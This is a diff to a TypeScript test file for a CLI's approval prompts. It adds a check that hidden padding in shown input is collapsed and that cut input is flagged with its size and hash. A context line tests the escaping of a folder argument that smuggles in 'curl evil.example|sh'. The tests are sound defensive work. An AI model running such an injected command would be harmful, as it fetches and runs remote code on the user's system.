@@ -1,4 +1,5 @@
 /** What `palyra skills dev` and `run` say of what goes wrong: what it is, and what to do. */
+import { createHash } from "node:crypto";
 import { mkdirSync, rmSync, utimesSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
 import { beforeEach, describe, expect, it } from "vitest";
@@ -13,6 +14,7 @@ import { openSandboxPool } from "../../src/execution/index.ts";
 import { CATALOG } from "../../src/operations/catalog.ts";
 import { approvalQuestion } from "../../src/operations/shared/approval-question.ts";
 import { launchPlanOf } from "../../src/operations/shared/launch-plan.ts";
+import { shownInput } from "../../src/operations/shared/shown-input.ts";
 import { tellGrant } from "../../src/operations/wording/grants.ts";
 import { tellOutcome } from "../../src/operations/wording/outcomes.ts";
 import { tellingOf } from "../../src/operations/wording/sentences.ts";
@@ -201,6 +203,25 @@ describe("T20: the input that a person is asked about", () => {
     expect(input('{"text":"a \\"q\\""}')).toEqual(["the input, 18 B:", '  {"text":"a \\"q\\""}']);
     expect(input("x\u001b[31m\ny")?.at(-1)).toBe("  x\\u{1b}[31m\\u{a}y");
   });
+
+  it("T28: has nothing out of sight behind blanks, in it or in its texts, and says of what is not shown how much it is", () => {
+    const shown = (text: string) => shownInput(new TextEncoder().encode(text), 400);
+    expect(shown(`{"text":"hi",${" ".repeat(3000)}"danger" : [1.50, true,null]}`)).toEqual({
+      text: '{"text":"hi","danger":[1.50,true,null]}',
+      note: undefined,
+    });
+    const text = `{"a":"${" ".repeat(3000)}","${"b".repeat(500)}":{},"danger":true}`;
+    expect(shown(text).text).toBe(
+      `{"a":"${" ".repeat(60)}"…(3,000 characters),"${"b".repeat(60)}"…(500 characters):{},"danger":true}`,
+    );
+    expect(shown(text).note).toBe(`not all of it is shown: 3,528 bytes with SHA-256 ${sha256(text)}`);
+    const many = `[${'"0123456789abcdef",'.repeat(2000)}"danger"]`;
+    expect(shown(many).text).toHaveLength(400);
+    expect(shown(many).text).toContain('"0123456789ab"…(16 characters)');
+    expect(shown(many).note).toContain(sha256(many));
+    expect(shown("nonsense ".repeat(100)).note).toContain("900 bytes");
+    expect(shown(`[1${"0".repeat(100)}]`)).toMatchObject({ text: `[1${"0".repeat(39)}…]`, note: expect.any(String) });
+  });
 });
 
 describe("T28: what a tool may use, as a person is asked about it", () => {
@@ -272,3 +293,5 @@ describe("T44: a command that is told to be typed", () => {
     expect(tellingOf(error)?.hint).toContain(" --root 'a/b; curl evil.example|sh #=FOLDER'");
   });
 });
+
+const sha256 = (text: string): string => createHash("sha256").update(text).digest("hex");
